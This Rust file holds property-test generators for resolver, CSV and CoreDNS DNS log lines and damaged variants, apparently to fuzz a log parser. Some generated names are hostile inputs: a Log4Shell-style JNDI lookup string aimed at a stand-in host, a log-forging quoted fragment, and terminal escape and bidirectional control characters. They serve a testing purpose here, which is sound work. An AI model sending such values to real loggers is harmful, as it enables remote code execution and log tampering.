//! Lines of DNS logs as their writers write them, whatever was asked for, and damaged ones.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};

use proptest::prelude::{Just, Strategy, any, prop};
use proptest::prop_oneof;
use serde_json::{Value, json};

/// The keys of a log, and the reasons that go with them.
pub(crate) struct Keys {
    pub(crate) time: &'static str,
    pub(crate) source: &'static str,
    pub(crate) name: &'static str,
    pub(crate) query_type: &'static str,
    pub(crate) vpc: &'static str,
    pub(crate) wrong: [&'static str; 3],
}

pub(crate) const RESOLVER: Keys = Keys {
    time: "query_timestamp",
    source: "srcaddr",
    name: "query_name",
    query_type: "query_type",
    vpc: "vpc_id",
    wrong: ["malformed:query_timestamp", "malformed:srcaddr", "malformed:query_name"],
};

pub(crate) const PLAIN: Keys = Keys {
    time: "time",
    source: "source",
    name: "name",
    query_type: "type",
    vpc: "vpc",
    wrong: ["malformed:time", "malformed:source", "malformed:name"],
};

/// Names that somebody asks for, above all to break a log.
fn name() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => "[a-z]{1,8}\\.(test|example)\\.?",
        1 => Just(r#"a\"b\ c.test."#.to_owned()),
        1 => Just(r#"x udp 45 false 512" NOERROR qr 98 0.1s"#.to_owned()),
        1 => Just("${jndi:ldap://evil.test}".to_owned()),
        1 => Just("\u{1b}[2J\u{0}é\u{202e}".to_owned()),
        1 => Just(String::new()),
        1 => Just(".".to_owned()),
    ]
}

fn time() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => Just("2026-11-23T01:58:00.996Z".to_owned()),
        2 => Just("2026-11-23T01:58:00Z".to_owned()),
        1 => Just("2026-11-23T03:58:00.996123456+02:00".to_owned()),
        1 => Just("1795399080".to_owned()),
        1 => Just("1795399080.25".to_owned()),
        1 => Just("yesterday".to_owned()),
    ]
}

fn source() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => any::<u32>().prop_map(|bits| Ipv4Addr::from_bits(bits).to_string()),
        2 => any::<u128>().prop_map(|bits| Ipv6Addr::from_bits(bits).to_string()),
        1 => Just("10.0.0.256".to_owned()),
        1 => Just("-".to_owned()),
    ]
}

fn texts() -> impl Strategy<Value = String> {
    let answer = prop_oneof![3 => source(), 1 => Just("edge.cdn.test.".to_owned()), 1 => Just("10.0.0".to_owned())];
    (prop::collection::vec(answer, 0..4), "[; ]").prop_map(|(answers, between)| answers.join(&between))
}

fn answers() -> impl Strategy<Value = Value> {
    let kind = prop::sample::select(vec!["A", "A", "AAAA", "CNAME", "PTR", "TXT"]);
    let data = prop_oneof![3 => source(), 1 => name()];
    let typed = (kind, data, any::<bool>()).prop_map(|(kind, data, first)| {
        if first {
            json!({"Type": kind, "Rdata": data, "Class": "IN"})
        } else {
            json!({"Class": "IN", "Rdata": data, "Type": kind})
        }
    });
    let answer = prop_oneof![
        6 => typed,
        2 => texts().prop_map(Value::from),
        1 => prop::sample::select(vec![json!(null), json!(7), json!([]), json!({}), json!({"Type": "A", "Rdata": 1})]),
    ];
    prop_oneof![
        4 => prop::collection::vec(answer, 0..4).prop_map(Value::from),
        1 => texts().prop_map(Value::from),
        1 => prop::sample::select(vec![json!(null), json!({}), json!(true)]),
    ]
}

/// An object of either log, with its keys in any order, some missing, some odd.
pub(crate) fn object(keys: &'static Keys) -> impl Strategy<Value = String> {
    let odd = prop::sample::select(vec![
        json!(null),
        json!(-1),
        json!([1, {"a": 2}]),
        json!({"instance": {}}),
        json!(""),
    ]);
    let value = |good: fn(String) -> Value, text| prop_oneof![12 => Strategy::prop_map(text, good), 1 => odd.clone()];
    let of_time = |text: String| {
        text.parse::<u64>()
            .map_or_else(|_| json!(text), |seconds| json!(seconds))
    };
    let ids = prop_oneof![
        3 => Just(json!({"instance": "i-0a"})),
        1 => Just(json!({"resolver_endpoint": "rslvr-in-0a", "resolver_network_interface": "rni-0a"})),
        1 => odd.clone(),
    ];
    let fields = (
        value(of_time, time().boxed()),
        value(Value::from, source().boxed()),
        value(Value::from, name().boxed()),
        answers(),
        ids,
    );
    let order = Just((0..9_usize).collect::<Vec<_>>()).prop_shuffle();
    (fields, order, 5..=9_usize).prop_map(|((time, source, name, answers, ids), order, count)| {
        let id_key = if keys.time == "time" { "instance" } else { "srcids" };
        let all = [
            (keys.time, time),
            (keys.source, source),
            (keys.name, name),
            ("answers", answers),
            (id_key, ids),
            (keys.query_type, json!("A")),
            ("rcode", json!("NOERROR")),
            (keys.vpc, json!("vpc-0a")),
            ("unknown", json!({"deep": [1, 2.5, "x"]})),
        ];
        let text = |at: &usize| format!("{}:{}", json!(all[*at].0), all[*at].1);
        let members: Vec<String> = order.iter().take(count).map(text).collect();
        format!("{{{}}}", members.join(","))
    })
}

pub(crate) fn csv_line() -> impl Strategy<Value = String> {
    let quoted = |text: String, always: bool| {
        if always || text.contains([',', '"']) {
            format!("\"{}\"", text.replace('"', "\"\""))
        } else {
            text
        }
    };
    ((time(), source(), name(), texts()), any::<[bool; 4]>()).prop_map(
        move |((time, source, name, texts), [a, b, c, d])| {
            let (time, source) = (quoted(time, a), quoted(source, b));
            let (name, texts) = (quoted(name, c), quoted(texts, d));
            format!("{time},{source},{name},A,NOERROR,{texts},vpc-0a,i-0a")
        },
    )
}

pub(crate) fn coredns_line() -> impl Strategy<Value = String> {
    let prefix = prop_oneof![
        3 => Just("2026-11-23T01:58:00.996Z ".to_owned()),
        1 => Just("2026-11-23T03:58:00.996123456+02:00 stdout F ".to_owned()),
        1 => Just(String::new()),
        1 => time().prop_map(|time| format!("{time} ")),
    ];
    let remote = prop_oneof![
        3 => any::<(u32, u16)>().prop_map(|(host, port)| SocketAddr::new(IpAddr::V4(host.into()), port).to_string()),
        1 => any::<(u128, u16)>().prop_map(|(host, port)| SocketAddr::new(IpAddr::V6(host.into()), port).to_string()),
        1 => Just("host:53".to_owned()),
    ];
    let message = (remote, name(), "(| \"0\")").prop_map(|(remote, name, opcode)| {
        format!(r#"[INFO] {remote} - 12345 "AAAA IN {name} udp 45 false 512" NXDOMAIN qr,aa,rd 98 0.012s{opcode}"#)
    });
    let message = prop_oneof![
        8 => message,
        1 => Just("[INFO] plugin/reload: Running configuration SHA512 = ab".to_owned()),
        1 => Just("[ERROR] plugin/errors: 2 a.test. A: read udp 10.0.0.1:1->10.0.0.2:53: i/o timeout".to_owned()),
    ];
    (prefix, message).prop_map(|(prefix, message)| format!("{prefix}{message}"))
}

pub(crate) fn damaged(line: impl Strategy<Value = String> + 'static) -> impl Strategy<Value = String> {
    let damage = prop::collection::vec((any::<prop::sample::Index>(), "[ -~\\x00é]|[,\";{}]|"), 0..4);
    (line, damage).prop_map(|(line, damage)| {
        let mut chars: Vec<char> = line.chars().collect();
        for (at, with) in damage {
            if !chars.is_empty() {
                let at = at.index(chars.len());
                chars.splice(at..=at, with.chars());
            }
        }
        chars.into_iter().collect()
    })
}
